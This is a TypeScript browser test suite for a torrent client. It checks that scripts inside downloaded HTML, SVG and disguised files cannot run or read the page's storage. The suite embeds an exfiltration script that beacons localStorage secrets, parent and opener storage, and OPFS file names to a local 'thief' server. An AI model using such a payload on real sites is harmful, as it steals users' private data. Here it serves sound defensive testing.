import { once } from "node:events";
import { mkdir, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { DownloadOnPage, PageDriver } from "../../support/page/page-driver.ts";
import { LocalSwarm, readTorrentJson } from "../../support/swarms/local-swarm.ts";

/** Files that carry a script, each in a way that browsers run. */
const wrapped: Readonly<Record<string, (script: string) => string>> = {
  "page.html": (script) => `<!doctype html><title>page</title><script>${script}</script>`,
  "picture.svg": (script) =>
    `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script><![CDATA[${script}]]></script></svg>`,
  "page.xhtml": (script) =>
    `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title><script><![CDATA[${script}]]></script></head></html>`,
  "document.pdf": (script) => `<!doctype html><title>page</title><script>${script}</script>`,
  "notes.txt": (script) => `<!doctype html><title>page</title><script>${script}</script>`,
};
const names = Object.keys(wrapped);

describe("script in the files of a torrent", () => {
  let swarm: LocalSwarm;
  let browser: PageDriver;
  let page: Page;
  let thief: Server;
  let thiefUrl: string;
  let infoHash: string;
  /** What scripts have sent to the thief. */
  const stolen: string[] = [];

  beforeAll(async () => {
    thief = createServer(({ url }, response) => {
      const name = url!.slice(1);
      if (url!.startsWith("/stolen")) stolen.push(url!);
      const isSvg = name.endsWith(".svg");
      response.setHeader("content-type", isSvg ? "image/svg+xml" : "text/html");
      response.end(wrapped[name]?.(script()));
    }).listen(0, "127.0.0.1");
    await once(thief, "listening");
    thiefUrl = `http://127.0.0.1:${(thief.address() as AddressInfo).port}`;
    swarm = await LocalSwarm.start();
    browser = await PageDriver.start();
    await mkdir(swarm.path("evil"));
    for (const name of names) await writeFile(swarm.path(`evil/${name}`), wrapped[name]!(script()));
    await writeFile(swarm.path("evil/code.js"), script());
    infoHash = (await readTorrentJson(await swarm.publish("evil"))).info_hash;
    await swarm.peer("seed", "evil");
    page = await browser.open(`${swarm.catalogUrl}/#token=secret-token`);
    const download = await new DownloadOnPage(page, "evil").start();
    await download.becomes("Complete");
    await page.evaluate(async () => {
      localStorage.setItem("private", "secret-storage");
      await (await navigator.storage.getDirectory()).getFileHandle("secret-file", { create: true });
    });
    // The first preview starts the service worker.
    await page.locator("summary", { hasText: "Files" }).first().click();
    await page.getByRole("button", { name: "Read notes.txt" }).click();
    await page.locator(".preview textarea").waitFor();
  });
  afterAll(async () => {
    await browser?.stop();
    await swarm?.stop();
    thief?.close();
  });

  /** Tells the thief that it runs, then what it can read here and in the page around it. */
  function script(): string {
    return `
      const tell = (what) => { new Image().src = "${thiefUrl}/stolen/" + encodeURIComponent(what); };
      tell("runs");
      for (const read of [() => localStorage.private, () => parent.localStorage.private, () => opener.localStorage.private]) {
        try { tell(read()); } catch {}
      }
      navigator.storage?.getDirectory().then((folder) => folder.keys().next()).then(({ value }) => tell(value), () => {});`;
  }

  const pathOf = (name: string) => `/content/${infoHash}/evil/${name}`;

  /** Opens the URL in a tab of its own and in a frame of `outer`, until each has loaded or has become a download. */
  async function openBoth(url: string, outer: Page): Promise<void> {
    const tab = await browser.open("about:blank");
    await tab
      .goto(url)
      .catch((error: Error) => expect(error.message).toMatch(/Download is starting|ERR_ABORTED/));
    await tab.close();
    await inFrame(outer, url);
  }

  it("would be heard of, if it ran", async () => {
    const tab = await browser.open(`${thiefUrl}/picture.svg`);
    await expect.poll(() => stolen).toContain("/stolen/runs");
    await tab.close();
    stolen.length = 0;
  });

  it.each(names)("does not run at a content URL of the page's own origin: %s", async (name) => {
    await openBoth(`${swarm.catalogUrl}${pathOf(name)}`, page);
    expect(stolen).toEqual([]);
  });

  it("is no module and no service worker of the page", async () => {
    // As text: vitest would rewrite the import.
    const code = JSON.stringify(pathOf("code.js"));
    const imported = await page.evaluate(`import(${code}).then(() => "ran", () => "refused")`);
    expect(imported).toBe("refused");
    const registered = await page.evaluate(
      (path) =>
        Promise.resolve()
          .then(() => navigator.serviceWorker.register(path))
          .then(
            () => "registered",
            () => "refused",
          ),
      pathOf("code.js"),
    );
    expect(registered).toBe("refused");
    expect(stolen).toEqual([]);
  });

  it("does not run at a gateway", async () => {
    const gateway = swarm.run("gateway", ["gateway", "--port", "0", "--catalog", swarm.catalogUrl]);
    const url = await gateway.url();
    // A page of its own, because the policy of ours allows no frames of others.
    const outer = await browser.open(thiefUrl);
    for (const name of names) await openBoth(`${url}${pathOf(name)}`, outer);
    expect(stolen).toEqual([]);
  });
});

async function inFrame(page: Page, url: string): Promise<void> {
  let saved = false;
  page.once("download", () => {
    saved = true;
  });
  await page.evaluate((src) => {
    const frame = document.createElement("iframe");
    frame.id = "attack";
    frame.onload = () => {
      frame.dataset.loaded = "";
    };
    frame.src = src;
    document.body.append(frame);
  }, url);
  const frame = page.locator("#attack");
  const loaded = async () => (await frame.getAttribute("data-loaded")) !== null;
  await expect.poll(async () => saved || (await loaded()), { timeout: 60_000 }).toBe(true);
  const within = await frame.evaluate((one: HTMLIFrameElement) => {
    const has = one.contentDocument?.querySelector("script, svg") ?? null;
    one.remove();
    return has !== null;
  });
  expect(within, "the page can reach into the document").toBe(false);
}
